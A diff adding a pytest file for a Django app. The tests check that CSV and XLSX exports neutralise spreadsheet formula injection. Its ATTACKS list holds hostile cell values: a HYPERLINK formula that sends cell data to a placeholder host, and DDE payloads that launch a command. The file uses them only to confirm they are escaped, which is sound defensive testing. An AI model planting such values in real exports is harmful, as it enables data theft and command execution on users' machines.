@@ -1,0 +1,112 @@
+"""Issue 11: formula injection is neutralised in every CSV and XLSX export (OWASP rule)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from django.contrib.auth.models import User
+from django.test import Client
+from openpyxl import load_workbook
+
+from config.spreadsheets import spreadsheet_cell, spreadsheet_row
+from observatoire.models import Indicator, IndicatorValue
+from observatoire.services import catalogue_import
+from pratiques.models import Answer
+from territoires.models import ActorProfile
+from tests.conftest import logged_in
+from tests.observatoire.conftest import CATALOGUE_CSV
+from tests.pratiques import test_curation_analytics as analytics
+from tests.pratiques.helpers import submitted
+
+pytestmark = pytest.mark.django_db
+
+ATTACKS = [
+    '=HYPERLINK("https://exemple.invalid/?x="&A1,"Cliquez")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_cell_starting_like_a_formula_is_prefixed(attack: str) -> None:
+    assert spreadsheet_cell(attack) == "'" + attack
+
+
+def test_numbers_and_ordinary_text_are_left_alone() -> None:
+    assert spreadsheet_row([-3.5, -12, 0, None, "-3.5", "-12,4", "+7", "1e-3", "Vincennes"]) == [
+        -3.5,
+        -12,
+        0,
+        None,
+        "-3.5",
+        "-12,4",
+        "+7",
+        "1e-3",
+        "Vincennes",
+    ]
+    assert spreadsheet_cell("a=b") == "a=b"
+    assert spreadsheet_cell("-") == "'-"
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+
+
+def assert_neutralised(cells: list[Any], attacks: list[str]) -> None:
+    for attack in attacks:
+        assert "'" + attack in cells, attack
+        assert attack not in cells, attack
+
+
+def test_the_catalyst_csv_exports(alice: User, geo: Any) -> None:
+    assessment = submitted(alice, geo.vincennes, 2, 3)
+    answers = list(Answer.objects.filter(assessment=assessment).order_by("pk")[: len(ATTACKS)])
+    for answer, attack in zip(answers, ATTACKS, strict=True):
+        Answer.objects.filter(pk=answer.pk).update(comment=attack)
+    client = logged_in(alice)
+    for url in (
+        f"/pratiques/evaluations/{assessment.pk}/export.csv",
+        "/pratiques/mes-donnees/export.csv",
+    ):
+        text = client.get(url).content.decode("utf-8-sig")
+        # The carriage-return attack is read back by csv as a quoted cell.
+        assert_neutralised(csv_cells(text), ATTACKS)
+
+
+def test_the_territory_indicators_csv(geo: Any) -> None:
+    catalogue_import(data=CATALOGUE_CSV.encode(), file_name="catalogue.csv")
+    indicator = Indicator.objects.get(code="TX_CHOM")
+    Indicator.objects.filter(pk=indicator.pk).update(
+        label=ATTACKS[0], unit="@unite", source="-source"
+    )
+    IndicatorValue.objects.create(
+        indicator=indicator, territory=geo.vincennes, year=2021, value=-4.5
+    )
+    text = Client().get("/territoires/commune/94080/indicateurs.csv").content.decode()
+    cells = csv_cells(text)
+    assert_neutralised(cells, [ATTACKS[0], "@unite", "-source"])
+    assert "-4.5" in cells  # a negative number stays a number
+
+
+def test_the_admin_csv_and_xlsx_exports(nadia: User, geo: Any) -> None:
+    analytics.submitted(5, geo)
+    profile = ActorProfile.objects.order_by("order").first()
+    ActorProfile.objects.filter(pk=profile.pk).update(label=ATTACKS[0])
+    client = logged_in(nadia)
+    response = client.get(analytics.CSV)
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert_neutralised(csv_cells(text), [ATTACKS[0]])
+    workbook = load_workbook(io.BytesIO(client.get(analytics.XLSX).content))
+    sheet = workbook["reponses"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    profile_cells = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
+    assert len(profile_cells) == 5 * 24
+    # Written as strings, never as live formulas.
+    assert all(cell.data_type == "s" and cell.value == "'" + ATTACKS[0] for cell in profile_cells)
+    assert not any(cell.data_type == "f" for cell in cells)
